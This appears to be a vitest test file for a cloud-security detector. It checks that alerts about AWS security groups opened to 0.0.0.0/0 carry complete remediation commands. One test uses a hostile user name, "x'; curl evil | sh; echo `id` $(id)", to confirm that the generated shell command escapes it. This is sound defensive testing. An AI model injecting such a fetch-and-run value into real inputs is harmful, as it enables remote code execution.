// What a built-in rule tells a person, for every example on which it fires: complete, with the
// commands filled in, whoever made the call and whatever shape the record has.

import { describe, expect, test } from 'vitest';
import type { ExposureSignal } from '../../src/model/signal.ts';
import { detect } from '../../src/pipeline.ts';
import { loadExamples } from '../../src/rules/load-examples.ts';
import { builtInRulesDirectory, readRules } from '../../src/rules/load-rules.ts';

const { rules: all } = await readRules([builtInRulesDirectory()]);
const rules = all.filter(({ rule }) => rule.kind === 'exposure');

/** What is wrong with the words of a signal. */
function faultsOf({ title, message, region, groupId, status }: ExposureSignal): readonly string[] {
  const complete: Readonly<Record<string, boolean>> = {
    'the title names the group': title.includes(groupId),
    'the title is one line': !/[\n{]/.test(title),
    // An empty attribute leaves two backticks or two pairs of asterisks behind.
    'nothing is empty': !/\{\{|undefined|null|(?<!`)``(?!`)|\*{4}/.test(message),
    'no option of a command is empty': !/(?:--region|Values=|--group-id|Value=) *$/m.test(message),
    'the rules of the group are listed': message.includes(
      `aws ec2 describe-security-group-rules --region ${region} \\\n`,
    ),
    'a rule can be removed': message.includes(
      `aws ec2 revoke-security-group-ingress --region ${region} \\\n` +
        `     --group-id ${groupId} --security-group-rule-ids SGR_ID`,
    ),
    'a rule can be narrowed': message.includes(
      `aws ec2 modify-security-group-rules --region ${region} \\\n     --group-id ${groupId} `,
    ),
    'it says whether the group is open': message.includes(
      status === 'open' ? '**It is still open**' : 'It was closed by `',
    ),
    'there are four steps': message.match(/^\d\. /gm)?.join('') === '1. 2. 3. 4. ',
  };
  return Object.keys(complete).filter((fact) => complete[fact] === false);
}

function opening(fromPort: number, toPort: number, userName = 'sam'): object {
  return {
    eventTime: '2026-03-01T08:00:00Z',
    eventID: 'e-1',
    eventSource: 'ec2.amazonaws.com',
    eventName: 'AuthorizeSecurityGroupIngress',
    awsRegion: 'us-east-1',
    recipientAccountId: '111122223333',
    userIdentity: { type: 'IAMUser', userName },
    requestParameters: {
      groupId: 'sg-1',
      ipProtocol: 'tcp',
      fromPort,
      toPort,
      cidrIp: '0.0.0.0/0',
    },
    responseElements: { _return: true },
  };
}

describe.each(rules)('$rule.id', ({ rule, folder }) => {
  test('tells everything on every example on which it fires', async () => {
    const { examples } = await loadExamples(folder);
    const told = (examples ?? []).flatMap(({ name, records }) =>
      detect(records, { rules: [rule] })
        .signals.filter((signal) => signal.groupId !== null)
        .map((signal) => ({ name, signal })),
    );
    expect(told.length).toBeGreaterThan(60);
    const faults = told.flatMap(({ name, signal }) =>
      faultsOf(signal).map((fault) => `${name}: not true that ${fault}:\n${signal.message}`),
    );
    expect(faults).toEqual([]);
  });

  test('lets nothing out of a command that an attacker put into a name', () => {
    const hostile = "x'; curl evil | sh; echo `id` $(id) '";
    const { signals } = detect([opening(0, 65_535, hostile)], { rules: [rule] });
    expect(signals[0]?.message).toContain("AttributeValue=x\\'\\;\\ curl\\ evil\\ \\|\\ sh\\;");
    expect(signals[0]?.message).not.toContain('evil | sh; echo `id`');
  });
});

describe('the command that narrows a rule', () => {
  const remedy = /FromPort=\w+,ToPort=\w+/;

  test.each([
    ['aws-sg-admin-port-open-to-world', 22],
    ['aws-sg-database-port-open-to-world', 5432],
  ])(
    'has the port of %s where there is one, and asks for them where there are more',
    (id, port) => {
      const options = { rules: rules.map(({ rule }) => rule).filter((rule) => rule.id === id) };
      const commands = [opening(port, port), opening(0, 65_535)].map(
        (record) => remedy.exec(detect([record], options).signals[0]?.message ?? '')?.[0],
      );
      expect(commands).toEqual([
        `FromPort=${port},ToPort=${port}`,
        'FromPort=FIRST_PORT,ToPort=LAST_PORT',
      ]);
    },
  );
});
